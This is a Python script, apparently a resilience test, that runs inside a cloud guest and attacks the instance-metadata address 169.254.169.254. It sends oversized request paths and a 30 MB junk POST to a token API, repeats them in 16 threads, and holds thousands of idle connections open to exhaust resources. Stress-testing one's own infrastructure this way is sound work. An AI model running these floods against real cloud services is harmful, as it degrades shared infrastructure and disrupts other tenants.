"""Attacks of a hostile guest on its cloud; runs in the guest: standard library only.

python3 attacks.py paths|tokens|idle|websockets SECONDS
"""

import socket
import sys
import threading
import time

CLOUD = "169.254.169.254"


def connect(port):
    return socket.create_connection((CLOUD, port), timeout=5)


def exchange(port, data):
    with connect(port) as connection:
        connection.sendall(data)
        while connection.recv(65536):
            pass


def paths():
    """Request paths of 250 kB, and of the longest that is accepted."""
    for length in (250_000, 8_000):
        path = b"/" + b"x" * length + b"%d" % time.monotonic_ns()
        exchange(80, b"GET " + path + b" HTTP/1.0\r\nHost: x\r\n\r\n")


def tokens():
    """Post 30 MB to the token API."""
    head = b"POST /v3/auth/tokens HTTP/1.0\r\nHost: x\r\nContent-Length: 30000000\r\n\r\n"
    with connect(5000) as connection:
        connection.sendall(head)
        for _ in range(30_000_000 // 65536):
            connection.sendall(b"[" * 65536)


def parallel(attack, end):
    """Repeat the attack in 16 threads until *end*; retry refused connections."""

    def again():
        while time.monotonic() < end:
            try:
                attack()
            except OSError:
                time.sleep(0.05)

    threads = [threading.Thread(target=again) for _ in range(16)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def hold(ports, count, end):
    """Open many connections, send nothing, and keep them open."""
    held = []
    for number in range(count):
        connection = socket.socket()
        connection.setblocking(False)
        connection.connect_ex((CLOUD, ports[number % len(ports)]))
        held.append(connection)
        time.sleep(0.002)
    time.sleep(max(0.0, end - time.monotonic()))


def main(attack, seconds):
    import resource

    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    end = time.monotonic() + float(seconds)
    if attack == "idle":
        hold((80, 5000, 8000, 8004, 8080, 8888), 2100, end)
    elif attack == "websockets":
        hold((9000,), 400, end)
    else:
        parallel({"paths": paths, "tokens": tokens}[attack], end)


if __name__ == "__main__":
    main(*sys.argv[1:])
